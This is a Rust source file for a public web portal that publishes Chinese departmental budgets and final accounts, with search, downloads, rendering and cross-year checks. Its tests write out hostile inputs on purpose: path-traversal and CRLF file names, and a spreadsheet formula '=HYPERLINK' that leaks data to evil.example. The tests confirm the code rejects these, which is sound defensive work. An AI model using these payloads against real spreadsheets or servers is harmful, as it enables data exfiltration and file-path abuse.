//! The public portal: no login, published versions only.

use crate::auth::MaybeUser;
use crate::data::{self, Dataset};
use crate::page::{esc, html};
use crate::{store, AppError, AppState};
use axum::extract::{Path, Query, State};
use axum::http::{header, HeaderValue};
use axum::response::{Html, IntoResponse, Response};
use juesuan_model::{Disclosure, DocKind, Money, Template};
use std::collections::BTreeSet;
use std::sync::{Arc, OnceLock};

#[derive(serde::Deserialize, Default)]
pub struct Filter {
    #[serde(default)]
    q: String,
    #[serde(default)]
    year: String,
    #[serde(default)]
    region: String,
    /// 决算 or 预算; empty: both.
    #[serde(default)]
    kind: String,
}

/// "赤峰市司法局2024年度部门决算": the title of a published dataset.
fn title(d: &Dataset) -> String {
    format!("{}{}年度部门{}", d.name, d.year, d.kind.chinese())
}

async fn published(state: &AppState) -> Result<Vec<Dataset>, AppError> {
    Ok(data::all_datasets(&state.db)
        .await?
        .into_iter()
        .filter(|d| d.published_version > 0)
        .collect())
}

pub async fn index(
    State(state): State<AppState>,
    MaybeUser(user): MaybeUser,
    Query(f): Query<Filter>,
) -> Result<Html<String>, AppError> {
    let all = published(&state).await?;
    let years: BTreeSet<i64> = all.iter().map(|d| d.year).collect();
    let regions: BTreeSet<&str> = all.iter().map(|d| d.region.as_str()).collect();
    let q = f.q.trim();
    let shown: Vec<&Dataset> = all
        .iter()
        .filter(|d| f.year.is_empty() || d.year.to_string() == f.year)
        .filter(|d| f.region.is_empty() || d.region == f.region)
        .filter(|d| f.kind.is_empty() || d.kind.chinese() == f.kind)
        .filter(|d| {
            q.is_empty() || d.name.contains(q) || d.dept_name.contains(q) || d.region.contains(q)
        })
        .collect();
    let opt = |v: &str, sel: &str, label: &str| {
        format!(
            r#"<option value="{}"{}>{}</option>"#,
            esc(v),
            if v == sel { " selected" } else { "" },
            esc(label)
        )
    };
    let mut body = String::from(r#"<form method="get" action="/" class="box">"#);
    body.push_str(&format!(
        r#"<label>搜索 <input name="q" value="{}" placeholder="部门或地区名称"></label>"#,
        esc(q)
    ));
    body.push_str(r#"<label>年度 <select name="year">"#);
    body.push_str(&opt("", &f.year, "全部"));
    for y in years.iter().rev() {
        body.push_str(&opt(&y.to_string(), &f.year, &format!("{y}年")));
    }
    body.push_str(r#"</select></label><label>类别 <select name="kind">"#);
    body.push_str(&opt("", &f.kind, "全部"));
    for k in [DocKind::Budget, DocKind::Final] {
        body.push_str(&opt(k.chinese(), &f.kind, &format!("部门{}", k.chinese())));
    }
    body.push_str(r#"</select></label><label>地区 <select name="region">"#);
    body.push_str(&opt("", &f.region, "全部"));
    for r in &regions {
        body.push_str(&opt(r, &f.region, r));
    }
    body.push_str(r#"</select></label><button>查询</button></form>"#);
    if shown.is_empty() {
        body.push_str("<p>没有符合条件的已公开部门预算或决算。</p>");
    } else {
        let count = |k: DocKind| shown.iter().filter(|d| d.kind == k).count();
        body.push_str(&format!(
            "<p>共 {} 份：部门预算 {} 份，部门决算 {} 份。</p>",
            shown.len(),
            count(DocKind::Budget),
            count(DocKind::Final)
        ));
        body.push_str("<table><tr><th>年度</th><th>地区</th><th>部门</th><th>类别</th><th>公开文件</th><th>公开时间</th><th></th></tr>");
        for d in shown {
            body.push_str(&format!(
                r#"<tr><td>{}</td><td>{}</td><td>{}</td><td>部门{}</td><td><a href="/p/{}">{}</a></td><td>{}</td><td><a href="/compare/{}">历年对比</a></td></tr>"#,
                d.year,
                esc(&d.region),
                esc(&d.dept_name),
                d.kind.chinese(),
                d.id,
                esc(&title(d)),
                crate::db::format_time(d.published_at),
                d.dept_id
            ));
        }
        body.push_str("</table>");
    }
    Ok(html("部门预决算公开", user.as_ref(), &body))
}

async fn published_one(state: &AppState, id: i64) -> Result<Dataset, AppError> {
    let d = data::dataset(&state.db, id).await?;
    if d.published_version == 0 {
        return Err(AppError::NotFound);
    }
    Ok(d)
}

pub const FORMATS: [(&str, &str); 5] = [
    ("pdf", "PDF"),
    ("docx", "Word（DOCX）"),
    ("xlsx", "Excel（XLSX）"),
    ("csv", "开放数据 CSV"),
    ("json", "开放数据 JSON"),
];

pub async fn disclosure(
    State(state): State<AppState>,
    MaybeUser(user): MaybeUser,
    Path(id): Path<i64>,
) -> Result<Html<String>, AppError> {
    let d = published_one(&state, id).await?;
    let mut body = format!(
        r#"<p>{} · {} · {}年度 · 公开于 {}</p><p>下载：{}</p><p><a href="/compare/{}">历年对比</a></p>
<iframe class="doc" src="/p/{}/document" title="{}公开全文"></iframe>"#,
        esc(&d.region),
        esc(&d.dept_name),
        d.year,
        crate::db::format_time(d.published_at),
        FORMATS
            .iter()
            .map(|(f, label)| format!(r#"<a href="/p/{}/download/{f}">{label}</a>"#, d.id))
            .collect::<Vec<_>>()
            .join(" · "),
        d.dept_id,
        d.id,
        d.kind.chinese()
    );
    body.push_str(&format!(
        r#"<p><a href="/p/{}/document">在新页面中打开全文</a></p>"#,
        d.id
    ));
    Ok(html(&title(&d), user.as_ref(), &body))
}

/// The generated HTML document of the published version, to be framed by the portal page.
pub async fn document(
    State(state): State<AppState>,
    Path(id): Path<i64>,
) -> Result<Response, AppError> {
    let d = published_one(&state, id).await?;
    let bytes = artifact(&state, &d, d.published_version, "html").await?;
    let mut res = (
        [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
        bytes.as_ref().clone(),
    )
        .into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_SECURITY_POLICY,
        HeaderValue::from_static(
            "default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'; base-uri 'none'",
        ),
    );
    h.insert(
        header::X_FRAME_OPTIONS,
        HeaderValue::from_static("SAMEORIGIN"),
    );
    Ok(res)
}

pub async fn download(
    State(state): State<AppState>,
    Path((id, format)): Path<(i64, String)>,
) -> Result<Response, AppError> {
    let d = published_one(&state, id).await?;
    let Some(&(fmt, _)) = FORMATS.iter().find(|(f, _)| *f == format) else {
        return Err(AppError::NotFound);
    };
    let bytes = artifact(&state, &d, d.published_version, fmt).await?;
    let mime = match fmt {
        "pdf" => "application/pdf",
        "docx" => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "xlsx" => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "csv" => "text/csv; charset=utf-8",
        _ => "application/json",
    };
    let disposition = disposition(d.id, &title(&d), d.year, fmt);
    let mut res = ([(header::CONTENT_TYPE, mime)], bytes.as_ref().clone()).into_response();
    if let Ok(v) = HeaderValue::from_str(&disposition) {
        res.headers_mut().insert(header::CONTENT_DISPOSITION, v);
    }
    Ok(res)
}

/// Content-Disposition of a download: an ASCII fallback name, and the Chinese title
/// (`<name><year>年度部门决算`) made one safe file name (the browser saves under it).
fn disposition(id: i64, title: &str, year: i64, fmt: &str) -> String {
    let file = juesuan_model::safe::file_name(title, fmt);
    format!(
        "attachment; filename=\"juesuan-{id}-{year}.{fmt}\"; filename*=UTF-8''{}",
        percent_encode(&file)
    )
}

fn percent_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn fonts() -> &'static Result<juesuan_pdf::Fonts, String> {
    static F: OnceLock<Result<juesuan_pdf::Fonts, String>> = OnceLock::new();
    F.get_or_init(juesuan_pdf::Fonts::discover)
}

/// A rendered document of a version (the same library calls as `juesuan build`), cached.
pub async fn artifact(
    state: &AppState,
    d: &Dataset,
    version: i64,
    fmt: &'static str,
) -> Result<Arc<Vec<u8>>, AppError> {
    let key = (d.id, version, fmt);
    if let Some(b) = state
        .artifacts
        .lock()
        .ok()
        .and_then(|m| m.get(&key).cloned())
    {
        return Ok(b);
    }
    let files = data::version_files(&state.db, d.id, version).await?;
    let bytes = tokio::task::spawn_blocking(move || render(&files, fmt))
        .await
        .map_err(|e| AppError::Internal(e.to_string()))?
        .map_err(AppError::Internal)?;
    let bytes = Arc::new(bytes);
    if let Ok(mut m) = state.artifacts.lock() {
        if m.len() > 64 {
            m.clear();
        }
        m.insert(key, bytes.clone());
    }
    Ok(bytes)
}

fn render(files: &store::Files, fmt: &str) -> Result<Vec<u8>, String> {
    let d = store::load(files).map_err(|p| {
        p.iter()
            .map(|p| p.to_string())
            .collect::<Vec<_>>()
            .join("；")
    })?;
    match fmt {
        "csv" => juesuan_opendata::to_csv(&juesuan_opendata::records(&d, true)?),
        "json" => juesuan_opendata::to_json(&juesuan_opendata::records(&d, true)?),
        _ => {
            let doc = juesuan_report::build(&d)?;
            match fmt {
                "html" => Ok(juesuan_html::render(&doc, false).into_bytes()),
                "pdf" => {
                    let fonts = fonts().as_ref().map_err(Clone::clone)?;
                    juesuan_pdf::render(&doc, false, fonts)
                }
                "docx" => juesuan_docx::write_docx(&doc, false),
                "xlsx" => juesuan_xlsx::write_xlsx(&doc),
                _ => Err(format!("未知格式 {fmt}")),
            }
        }
    }
}

/// The figures compared across years: (table, row, column, label).
const KEY_FIGURES: [(&str, &str, &str, &str); 8] = [
    ("T1", "本年收入合计", "决算数", "本年收入合计"),
    ("T1", "本年支出合计", "决算数", "本年支出合计"),
    ("T1", "年末结转和结余", "决算数", "年末结转和结余"),
    ("T4", "本年支出合计", "合计", "财政拨款支出合计"),
    ("T6", "人员经费合计", "决算数", "人员经费"),
    ("T6", "公用经费合计", "决算数", "公用经费"),
    ("T7", "合计", "决算数", "“三公”经费支出"),
    ("F", "机构运行经费", "本年", "机构运行经费"),
];

/// Key figures of a disclosure in 分, and (where given) the 上年决算 comparatives.
fn key_figures(d: &Disclosure) -> Vec<(Option<i64>, Option<i64>)> {
    let Ok(template) = Template::for_kind(d.entity.doc, d.entity.year) else {
        return vec![(None, None); KEY_FIGURES.len()];
    };
    let tables = juesuan_report::entity_tables(d, template);
    KEY_FIGURES
        .iter()
        .map(|(t, row, col, _)| {
            let table = if *t == "F" {
                Some(&d.facts)
            } else {
                tables.get(t)
            };
            match table {
                Some(tb) => (tb.get(row, col), tb.get(row, "上年决算")),
                None => (None, None),
            }
        })
        .collect()
}

fn fmt_money(v: Option<i64>) -> String {
    match v {
        Some(v) => juesuan_model::AmountUnit::Wan.format(Money::from_fen(v)),
        None => "—".into(),
    }
}

fn change_cells(cur: Option<i64>, base: Option<i64>) -> String {
    match (cur, base) {
        (Some(c), Some(b)) => {
            let ch = juesuan_derive::Change::printed(Money::from_fen(c), Money::from_fen(b));
            format!(
                r#"<td class="num">{}</td><td class="num">{}</td>"#,
                juesuan_model::AmountUnit::Wan.format(ch.delta()),
                ch.growth().map_or("不适用".to_string(), |p| p.display())
            )
        }
        _ => "<td>—</td><td>—</td>".into(),
    }
}

/// Year-over-year comparison of a department's published 决算 (with one year, its 本年
/// against the 上年决算 it states), the cross-year check, and each published 部门预算 against
/// the 年初预算 of the same year's 决算.
pub async fn compare(
    State(state): State<AppState>,
    MaybeUser(user): MaybeUser,
    Path(dept): Path<i64>,
) -> Result<Html<String>, AppError> {
    let mut list: Vec<Dataset> = published(&state)
        .await?
        .into_iter()
        .filter(|d| d.dept_id == dept)
        .collect();
    if list.is_empty() {
        return Err(AppError::NotFound);
    }
    list.sort_by_key(|d| d.year);
    let mut finals = Vec::new();
    let mut budgets = Vec::new();
    for d in &list {
        let files = data::version_files(&state.db, d.id, d.published_version).await?;
        let loaded = tokio::task::spawn_blocking(move || store::load(&files).ok())
            .await
            .map_err(|e| AppError::Internal(e.to_string()))?;
        match (loaded, d.kind) {
            (Some(dis), DocKind::Final) => finals.push((d.year, key_figures(&dis), dis)),
            (Some(dis), DocKind::Budget) => budgets.push((d.year, dis)),
            (None, _) => {}
        }
    }
    // Cross-year check, automatic when the platform has the year before the latest one.
    let check = match finals.as_slice() {
        [.., (y1, _, last), (y2, _, this)] if *y1 + 1 == *y2 => {
            let (last, this) = (last.clone(), this.clone());
            Some(
                tokio::task::spawn_blocking(move || prior_year_check(&last, &this))
                    .await
                    .map_err(|e| AppError::Internal(e.to_string()))?,
            )
        }
        _ => None,
    };
    // Budget against final: the latest year with both published.
    let pair = budgets.iter().rev().find_map(|(y, b)| {
        let f = finals.iter().find(|(fy, _, _)| fy == y)?;
        Some((b.clone(), f.2.clone()))
    });
    let budget_check = match pair {
        Some((b, f)) => Some(
            tokio::task::spawn_blocking(move || budget_check(&b, &f))
                .await
                .map_err(|e| AppError::Internal(e.to_string()))?,
        ),
        None => None,
    };
    let years: Vec<_> = finals.iter().map(|(y, f, _)| (*y, f.clone())).collect();
    let name = &list[list.len() - 1].dept_name;
    let mut body = String::new();
    if !years.is_empty() {
        body.push_str(
            "<p>金额单位：万元。增长率 =（本年 − 上年）/ 上年；上年为零时不计算增长率。</p>",
        );
    }
    if years.len() >= 2 {
        body.push_str("<table><tr><th>项目</th>");
        for (y, _) in &years {
            body.push_str(&format!("<th>{y}年</th>"));
        }
        let (y1, _) = years[years.len() - 2];
        let (y2, _) = years[years.len() - 1];
        body.push_str(&format!("<th>{y2}年比{y1}年增减</th><th>增长率</th></tr>"));
        for (i, (_, _, _, label)) in KEY_FIGURES.iter().enumerate() {
            body.push_str(&format!("<tr><td>{label}</td>"));
            for (_, figs) in &years {
                body.push_str(&format!(r#"<td class="num">{}</td>"#, fmt_money(figs[i].0)));
            }
            body.push_str(&change_cells(
                years[years.len() - 1].1[i].0,
                years[years.len() - 2].1[i].0,
            ));
            body.push_str("</tr>");
        }
        body.push_str("</table>");
    } else if let Some((y, figs)) = years.first() {
        body.push_str(&format!(
            "<p>平台上只有 {y} 年度的公开决算；下表为该年度决算与其中列示的上年决算数的对比。</p>"
        ));
        body.push_str(&format!(
            "<table><tr><th>项目</th><th>{}年（上年决算）</th><th>{y}年</th><th>增减</th><th>增长率</th></tr>",
            y - 1
        ));
        for (i, (_, _, _, label)) in KEY_FIGURES.iter().enumerate() {
            let (cur, prior) = figs[i];
            body.push_str(&format!(
                r#"<tr><td>{label}</td><td class="num">{}</td><td class="num">{}</td>{}</tr>"#,
                fmt_money(prior),
                fmt_money(cur),
                change_cells(cur, prior)
            ));
        }
        body.push_str("</table>");
    }
    if let Some((y, _)) = years.last() {
        body.push_str("<h2>上年决算数据核对</h2>");
        match check {
            Some(html) => body.push_str(&html),
            None => body.push_str(&format!(
                "<p>平台上没有 {} 年度的公开决算，{y} 年度决算中列示的上年决算数无法与之核对。</p>",
                y - 1
            )),
        }
    }
    body.push_str("<h2>部门预算与决算核对</h2>");
    match (budget_check, years.last(), budgets.last()) {
        (Some(html), _, _) => body.push_str(&html),
        (None, Some((y, _)), _) => body.push_str(&format!(
            "<p>平台上没有 {y} 年度的公开部门预算，{y} 年度决算中的年初预算数无法与之核对。</p>"
        )),
        (None, None, Some((y, _))) => body.push_str(&format!(
            "<p>{y} 年度部门预算的执行结果待 {y} 年度决算公开后核对。</p>"
        )),
        (None, None, None) => {}
    }
    for (kind, label) in [(DocKind::Budget, "部门预算"), (DocKind::Final, "部门决算")] {
        let of_kind: Vec<&Dataset> = list.iter().filter(|d| d.kind == kind).collect();
        if of_kind.is_empty() {
            continue;
        }
        body.push_str(&format!("<p>各年度{label}全文："));
        for d in of_kind {
            body.push_str(&format!(r#" <a href="/p/{}">{}年</a>"#, d.id, d.year));
        }
        body.push_str("</p>");
    }
    Ok(html(
        &format!("{name} 历年预决算对比"),
        user.as_ref(),
        &body,
    ))
}

/// A crosscheck report as HTML: `ok` when nothing differs, else `differ` (its `{n}` the count)
/// and each difference with its place, both sources' figures and the message.
fn check_html(report: &juesuan_check::Report, ok: &str, differ: &str, note: &str) -> String {
    let differences: Vec<&juesuan_check::Finding> = report
        .findings
        .iter()
        .filter(|f| f.severity != juesuan_check::Severity::Style)
        .collect();
    if differences.is_empty() {
        return format!(
            r#"<p class="ok">{}（核对 {} 处{}）。</p>"#,
            esc(ok),
            report.summary.evaluated,
            esc(note)
        );
    }
    let mut s = format!(
        r#"<p class="error">{}（核对 {} 处{}）：</p><table><tr><th>位置</th><th>说明</th><th>本年列示</th><th>对照来源</th></tr>"#,
        esc(&differ.replace("{n}", &differences.len().to_string())),
        report.summary.evaluated,
        esc(note)
    );
    for f in differences {
        s.push_str(&format!(
            r#"<tr><td>{}</td><td>{}</td><td class="num">{}</td><td class="num">{}</td></tr>"#,
            esc(&f.location.describe(None)),
            esc(&f.message),
            esc(f.stated.as_deref().unwrap_or("")),
            esc(f.expected.as_deref().unwrap_or(""))
        ));
    }
    s.push_str("</table>");
    s
}

/// Every 年初预算 figure of a year's 决算 against that year's published 部门预算 (juesuan
/// crosscheck --budget), as HTML.
pub fn budget_check(budget: &Disclosure, fin: &Disclosure) -> String {
    let y = fin.entity.year;
    let report = match juesuan_explain::crosscheck_budget(
        budget,
        std::path::Path::new(&format!("{}年度部门预算", budget.entity.year)),
        fin,
        std::path::Path::new(&format!("{y}年度部门决算")),
    ) {
        Ok(r) => r,
        Err(e) => return format!(r#"<p class="error">无法核对：{}</p>"#, esc(&e)),
    };
    check_html(
        &report,
        &format!("{y}年度决算中的年初预算数与 {y} 年度公开的部门预算一致"),
        &format!("{y}年度决算中的年初预算数有 {{n}} 处与 {y} 年度公开的部门预算不一致"),
        "",
    )
}

/// Every 上年决算 figure `this` year's disclosure states against the 决算 `last` year
/// published (juesuan crosscheck), as HTML: each difference with both sources.
pub fn prior_year_check(last: &Disclosure, this: &Disclosure) -> String {
    let label = |d: &Disclosure| format!("{}年度公开版", d.entity.year);
    let (last_label, this_label) = (label(last), label(this));
    // 口径调整 between consecutive years: the code mapping shipped with this year's codes
    let mapping = if last.entity.year + 1 == this.entity.year {
        juesuan_explain::Mapping::shipped(this.entity.year)
    } else {
        Ok(juesuan_explain::Mapping::default())
    };
    let mapping = match mapping {
        Ok(m) => m,
        Err(p) => {
            let text: Vec<String> = p.iter().map(|p| p.to_string()).collect();
            return format!(
                r#"<p class="error">无法核对：{}</p>"#,
                esc(&text.join("；"))
            );
        }
    };
    let report = match juesuan_explain::crosscheck_prior(
        last,
        std::path::Path::new(&last_label),
        this,
        std::path::Path::new(&this_label),
        &mapping,
    ) {
        Ok(r) => r,
        Err(e) => return format!(r#"<p class="error">无法核对：{}</p>"#, esc(&e)),
    };
    check_html(
        &report,
        &format!(
            "{}年度决算列示的上年决算数与 {} 年度公开的决算数一致",
            this.entity.year, last.entity.year
        ),
        &format!(
            "{}年度决算列示的上年决算数有 {{n}} 处与 {} 年度公开的决算数不一致",
            this.entity.year, last.entity.year
        ),
        "，已按科目对照表调整口径",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Last year as this year's 上年决算 figures say it was: each 部门 table's 决算 column
    /// and the facts' 本年 take this year's 上年决算 (both years use the 2024 口径 here).
    fn consistent_last_year(this: &Disclosure) -> Disclosure {
        let mut last = this.clone();
        last.entity.year = this.entity.year - 1;
        let current = |id: &str| match id {
            "T1" | "T6" | "T7" => "决算数",
            "T2" => "本年收入合计",
            "T3" | "T8" | "T9" => "本年支出合计",
            _ => "合计",
        };
        let dept = last.department.as_mut().unwrap();
        for (id, t) in &this.department.as_ref().unwrap().tables {
            for r in t.rows() {
                if let Some(prior) = t.get(&r.key, "上年决算") {
                    dept.get_mut(id)
                        .unwrap()
                        .set(&r.key, current(id), Some(prior));
                }
            }
        }
        for r in this.facts.rows() {
            if let Some(prior) = this.facts.get(&r.key, "上年决算") {
                last.facts.set(&r.key, "本年", Some(prior));
            }
        }
        last
    }

    #[test]
    fn download_names_are_one_safe_file_name() {
        let d = disposition(7, "赤峰市司法局2024年度部门决算", 2024, "pdf");
        assert!(d.starts_with("attachment; filename=\"juesuan-7-2024.pdf\"; filename*=UTF-8''"));
        let encoded = d.rsplit("''").next().unwrap();
        assert_eq!(encoded, percent_encode("赤峰市司法局2024年度部门决算.pdf"));
        for (name, want) in [
            ("../../escaped-", "____escaped-2024年度部门决算.csv"),
            ("/tmp/x-", "_tmp_x-2024年度部门决算.csv"),
            ("a\\b\r\nc", "a_b__c2024年度部门决算.csv"),
        ] {
            let d = disposition(1, &format!("{name}2024年度部门决算"), 2024, "csv");
            assert_eq!(
                d.rsplit("''").next().unwrap(),
                percent_encode(want),
                "{name}"
            );
            assert!(
                !d.contains("%2F") && !d.contains("%5C") && !d.contains("%0A"),
                "{d}"
            );
            assert!(axum::http::HeaderValue::from_str(&d).is_ok());
        }
    }

    #[test]
    fn portal_csv_is_refused_for_a_formula_name() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../examples/chifeng-sfj-2024");
        let mut files = store::from_dir(&dir).unwrap();
        let csv = String::from_utf8(render(&files, "csv").unwrap()).unwrap();
        assert!(csv.starts_with("entity,year,unit,"));
        assert!(csv.contains("\n赤峰市司法局,2024,部门,赤峰市司法局,T1,"));
        let toml = files.get_mut("disclosure.toml").unwrap();
        *toml = toml.replacen(
            "name = \"赤峰市司法局\"",
            "name = \"=HYPERLINK(\\\"http://evil.example/?leak\\\",\\\"点击查看\\\")\"",
            1,
        );
        let e = render(&files, "csv").unwrap_err();
        assert!(e.contains("以“=”开头"), "{e}");
    }

    #[test]
    fn prior_year_check_names_each_difference_with_both_sources() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../examples/chifeng-sfj-2024");
        let this = juesuan_load::load_dataset(&dir).unwrap();
        let mut last = consistent_last_year(&this);
        let html = prior_year_check(&last, &this);
        assert!(html.contains("一致"), "{html}");

        // Last year published 本年收入合计 1.00 万元 higher than this year restates it.
        let t1 = last.department.as_mut().unwrap().get_mut("T1").unwrap();
        let v = t1.get("本年收入合计", "决算数").unwrap();
        t1.set("本年收入合计", "决算数", Some(v + 1_000_000));
        let html = prior_year_check(&last, &this);
        assert!(html.contains("有 1 处"), "{html}");
        assert!(html.contains("本年收入合计"), "{html}");
        assert!(
            html.contains("2023年度公开版"),
            "names last year's source: {html}"
        );

        // A dataset of the wrong year is said so, not compared figure by figure.
        last.entity.year = 2020;
        assert!(prior_year_check(&last, &this).contains("不一致"));
    }
}
